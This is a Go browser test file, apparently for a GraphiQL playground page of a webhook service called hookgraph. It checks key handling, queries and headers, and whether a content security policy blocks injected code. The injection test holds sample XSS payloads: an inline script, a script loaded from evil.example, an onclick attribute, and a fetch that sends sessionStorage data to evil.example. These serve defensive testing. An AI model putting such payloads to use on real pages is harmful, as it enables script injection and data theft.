package web_test

import (
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/google/go-cmp/cmp"

	"github.com/hookgraph/hookgraph/web"
)

const signedIn = "Signed in: admin key"

// offline opens the Playground of this build, signed in.
func offline(t *testing.T) (*server, *tab) {
	t.Helper()
	needAssets(t)
	s := serve(t, web.Assets())
	b := newTab(t)
	b.open(s.url+"/#key="+adminKey, signedIn)
	t.Cleanup(func() {
		if others := b.elsewhere(s); len(others) > 0 {
			t.Errorf("the page asked %v", others)
		}
	})
	return s, b
}

// The key of the link leaves the address bar and the history, is sent to GraphQL
// and nothing else, and outlives a reload.
func TestKeyOfTheLink(t *testing.T) {
	t.Parallel()
	s, b := offline(t)
	leaves := func(when string) {
		t.Helper()
		history, err := chromedp.Run(b.ctx, chromedp.NavigationEntries())
		if err != nil {
			t.Fatal(err)
		}
		for _, entry := range history.Entries {
			if strings.Contains(entry.URL, "key") {
				t.Errorf("%s the history has %s", when, entry.URL)
			}
		}
		if got := b.eval("location.href"); got != s.url+"/" {
			t.Errorf("%s the address bar shows %s", when, got)
		}
	}
	leaves("after opening,")
	b.do(chromedp.Reload())
	b.await(viewer, signedIn)
	leaves("after a reload,")
	asked := 0
	for _, line := range s.requests() {
		sent := strings.Contains(line, adminKey)
		if sent != strings.HasSuffix(line, "/graphql [Bearer "+adminKey+"] []") || sent != strings.HasPrefix(line, "POST ") {
			t.Errorf("the browser sent %s", line)
		}
		if sent {
			asked++
		}
	}
	if asked < 4 { // the viewer and the schema, twice
		t.Errorf("GraphQL was asked %d times: %q", asked, s.requests())
	}
	if got := b.eval("JSON.stringify({...localStorage})"); strings.Contains(got, adminKey) {
		t.Errorf("the key outlives the tab: %s", got)
	}

	// Another link in the same tab.
	b.eval(`location.hash = "key=another"`)
	b.await(viewer, "not accepted")
	leaves("after another link,")
	b.excuses = []string{refusal}
}

// A query that is typed shows its answer.
func TestTypedQuery(t *testing.T) {
	t.Parallel()
	s, b := offline(t)
	s.createWebhook("https://receiver.example/orders")
	b.do(
		chromedp.Click(".graphiql-query-editor .CodeMirror"),
		chromedp.KeyEvent("a", chromedp.KeyModifiers(kb.ModifierCtrl)),
		chromedp.KeyEvent("{ webhooks(first: 1) { totalCount nodes { url active } } }"),
	)
	b.await(editor+".CodeMirror.getValue()", "nodes { url active } } }")
	b.do(chromedp.KeyEvent("\r", chromedp.KeyModifiers(kb.ModifierCtrl)))
	got := b.await(response, "receiver.example")
	want := `{
  "data": {
    "webhooks": {
      "totalCount": 1,
      "nodes": [
        {
          "url": "https://receiver.example/orders",
          "active": true
        }
      ]
    }
  }
}`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("the answer (-want +got):\n%s", diff)
	}
}

// The documentation shows a type with its description and its fields.
func TestDocumentation(t *testing.T) {
	t.Parallel()
	_, b := offline(t)
	b.do(chromedp.Click(`button[aria-label="Show Documentation Explorer"]`))
	const explorer = ".graphiql-doc-explorer"
	b.await(visible(explorer), "WebhookConnection")
	b.eval(`[...document.querySelectorAll(".graphiql-doc-explorer-type-name")].find(e => e.textContent === "Webhook").click()`)
	text := b.await(visible(explorer), "A URL to which events are delivered")
	for _, part := range []string{"lastTriggers", "The latest triggers, at most five, the latest first."} {
		if !strings.Contains(text, part) {
			t.Errorf("the explorer lacks %q: %s", part, text)
		}
	}
}

// Each ready query opens from the list and runs without an error; the first ones
// stand in tabs.
func TestReadyQueries(t *testing.T) {
	t.Parallel()
	s, b := offline(t)
	webhook := s.createWebhook("https://receiver.example/orders")
	answers := map[string]string{
		"Who am I": `"name": "admin key"`, "Webhooks": `"url": "https://receiver.example/orders"`, "Create a webhook": `"secret": "whsec_`,
		"Imported webhooks": `"entrust": {`, "Clients and their webhooks": `"clients": {`, "Failed deliveries": `"triggers": {`,
		"Watch deliveries": `"eventType": "order.paid"`, "Who changed what": `"operation": "createWebhook"`,
	}
	if got := b.eval(`[...document.querySelectorAll(".graphiql-tab")].map(e => e.textContent.replace(" icon", ""))`); got != "WhoAmI,Webhooks,CreateWebhook,Imported" {
		t.Errorf("the tabs are %s", got)
	}
	b.do(chromedp.Click(`button[aria-label="Show Ready queries"]`), chromedp.WaitVisible(".ready"))
	titles := strings.Split(b.eval(`[...document.querySelectorAll(".ready button strong")].map(e => e.textContent)`), ",")
	if len(titles) != len(answers) {
		t.Errorf("the list has %q", titles)
	}
	for i, title := range titles {
		want := answers[title]
		if want == "" {
			t.Errorf("no answer is known of %q", title)
			continue
		}
		b.eval(`[...document.querySelectorAll(".ready button")].find(e => e.querySelector("strong").textContent === "` + title + `").click()`)
		b.await(`document.querySelectorAll(".graphiql-tab").length`, strconv.Itoa(5+i))
		if title == "Watch deliveries" {
			b.do(chromedp.Click(".graphiql-execute-button"))
			s.awaitSubscriptions(1)
			s.triggerWebhook(webhook, "order.paid")
			b.await(response, want)
			b.do(chromedp.Click(".graphiql-execute-button")) // stops it
			s.awaitSubscriptions(0)
			continue
		}
		if got := b.run(want); strings.Contains(got, `"errors"`) || strings.Contains(got, `"field"`) && title == "Create a webhook" {
			t.Errorf("%s answers %s", title, got)
		}
	}
	// What was typed is there after a reload; what was answered is not.
	b.await(`JSON.stringify({...localStorage})`, "query Changes")
	if stored := b.eval(`JSON.stringify({...localStorage})`); strings.Contains(stored, "whsec_") {
		t.Errorf("a secret is stored: %s", stored)
	}
	b.do(chromedp.Reload())
	b.await(viewer, signedIn)
	b.await(`[...document.querySelectorAll(".graphiql-tab")].at(-1)?.textContent`, "Changes")
}

// A wrong key is explained and can be replaced; without a key the page says how
// to get one.
func TestWrongKey(t *testing.T) {
	t.Parallel()
	needAssets(t)
	s := serve(t, web.Assets())
	b := newTab(t, refusal)
	b.do(chromedp.Navigate(s.url + "/#key=wrong-key"))
	b.await(viewer, "The key is not accepted")
	b.await(visible(`[data-when="refused"]`), "UNAUTHENTICATED")
	b.do(chromedp.WaitVisible(".graphiql-execute-button"))
	b.run(`"UNAUTHENTICATED"`)

	b.do(chromedp.Click("#enter"), chromedp.KeyEvent("not a key\r"))
	b.await(visible("#wrong"), "no blanks")
	b.do(chromedp.KeyEvent("a", chromedp.KeyModifiers(kb.ModifierCtrl)), chromedp.KeyEvent(adminKey+"\r"))
	b.await(viewer, signedIn)
	b.await(visible(`[data-when="refused"]`)+` === "" ? "gone" : ""`, "gone")

	b.do(chromedp.Click("#forget"))
	b.await(viewer, "No key")
	b.await(visible(`[data-when="none"]`), "admin.key")
	b.do(chromedp.WaitVisible(".graphiql-execute-button"))
	if got := b.run(`"viewer"`); !strings.Contains(got, `"viewer": null`) {
		t.Errorf("without a key the viewer is %s", got)
	}
	if others := b.elsewhere(s); len(others) > 0 {
		t.Errorf("the page asked %v", others)
	}
}

// GraphiQL's dialogs work under the policy, and a credential in the headers
// editor is sent instead of the key and is not stored.
func TestDialogAndHeaders(t *testing.T) {
	t.Parallel()
	s, b := offline(t)
	b.do(chromedp.Click(`button[aria-label="Open settings dialog"]`), chromedp.WaitVisible(".graphiql-dialog"))
	if got := b.eval(`[...document.querySelectorAll("style")].filter(e => e.sheet.cssRules.length > 0).length > 0`); got != "true" {
		t.Error("the dialog does not lock scrolling: its style was not allowed")
	}
	if got := b.eval(visible(".graphiql-dialog")); strings.Contains(got, "Persist headers") {
		t.Errorf("the headers can be stored: %s", got)
	}
	b.eval(`[...document.querySelectorAll(".graphiql-dialog button")].find(e => e.textContent === "Dark").click()`)
	b.await(`document.body.className`, "graphiql-dark")
	b.do(chromedp.KeyEvent("\x1b"), chromedp.WaitNotPresent(".graphiql-dialog"))

	b.eval(`[...document.querySelectorAll(".graphiql-editor-tools button")].find(e => e.textContent === "Headers").click()`)
	b.do(chromedp.Click(`.graphiql-editor-tool .graphiql-editor:not(.hidden) .CodeMirror`), chromedp.KeyEvent(`{"Authorization": "Bearer of-my-own"`))
	b.run("UNAUTHENTICATED")
	if !slices.Contains(s.requests(), "POST /graphql [Bearer of-my-own] []") {
		t.Errorf("the browser sent %q", s.requests())
	}
	b.await(`JSON.stringify({...localStorage})`, `graphiql:queries`) // the history
	if stored := b.eval(`JSON.stringify({...localStorage, ...sessionStorage})`); strings.Contains(stored, "of-my-own") {
		t.Errorf("a header is stored: %s", stored)
	}
	// The second is about GraphiQL's own dialog, for those who develop it.
	b.excuses = []string{refusal, "Missing `Description`"}
}

// The policy keeps what is injected from running and from sending.
func TestInjection(t *testing.T) {
	t.Parallel()
	needAssets(t)
	s := serve(t, web.Assets())
	b := newTab(t, forbidden)
	b.open(s.url+"/#key="+adminKey, signedIn)
	for what, c := range map[string]struct{ inject, directive string }{
		"a script":       {`document.body.append(Object.assign(document.createElement("script"), {textContent: "stolen = 1"}))`, "script-src-elem"},
		"a script's URL": {`document.body.append(Object.assign(document.createElement("script"), {src: "https://evil.example/x.js"}))`, "script-src-elem"},
		"an attribute":   {`document.body.insertAdjacentHTML("beforeend", "<i onclick='stolen = 1'></i>"), document.body.lastChild.click()`, "script-src-attr"},
		"a style":        {`document.body.append(Object.assign(document.createElement("style"), {textContent: "i { color: red }"}))`, "style-src-elem"},
		"a request":      {`fetch("https://evil.example/?" + sessionStorage.length).catch(() => {})`, "connect-src"},
		"a picture":      {`document.body.append(Object.assign(new Image(), {src: "https://evil.example/"}))`, "img-src"},
	} {
		got := b.eval(`await new Promise(done => {
			document.addEventListener("securitypolicyviolation", e => done(e.effectiveDirective), {once: true});
			` + c.inject + `;
		})`)
		if got != c.directive || b.eval("typeof stolen") != "undefined" {
			t.Errorf("%s meets %q, want %q", what, got, c.directive)
		}
	}
	got := b.eval(`await hookgraph.ask(location.origin + "/healthz", {}).then(r => r.status)`)
	if requests := s.requests(); got != "200" || requests[len(requests)-1] != "GET /healthz [] []" {
		t.Errorf("another path than GraphQL's is sent %s", requests[len(requests)-1])
	}
}

// Without the assets the page says that it needs the network, and from where it
// loads what; the key is taken and sent all the same.
func TestWithoutAssets(t *testing.T) {
	t.Parallel()
	s := serve(t, fstest.MapFS{})
	b := newTab(t, unresolved)
	b.do(chromedp.Navigate(s.url + "/#key=" + adminKey))
	b.await(viewer, signedIn)
	if got := b.eval("location.href"); got != s.url+"/" {
		t.Errorf("the address bar shows %s", got)
	}
	b.await(visible("#network"), "loads it from cdn.jsdelivr.net, which needs the network")
	b.await(visible("#missing"), "GraphiQL could not be loaded from cdn.jsdelivr.net: is there a network?")
	if !slices.Contains(s.requests(), "POST /graphql [Bearer "+adminKey+"] []") {
		t.Errorf("the browser sent %q", s.requests())
	}
	others := b.elsewhere(s)
	slices.Sort(others)
	want := []string{
		cdn + "graphiql@4.1.2/graphiql.min.css", cdn + "graphiql@4.1.2/graphiql.min.js", cdn + "graphql-sse@2.6.1/umd/graphql-sse.min.js",
		cdn + "react-dom@18.2.0/umd/react-dom.production.min.js", cdn + "react@18.2.0/umd/react.production.min.js",
	}
	if diff := cmp.Diff(want, slices.Compact(others)); diff != "" {
		t.Errorf("the page loads from elsewhere (-want +got):\n%s", diff)
	}
}
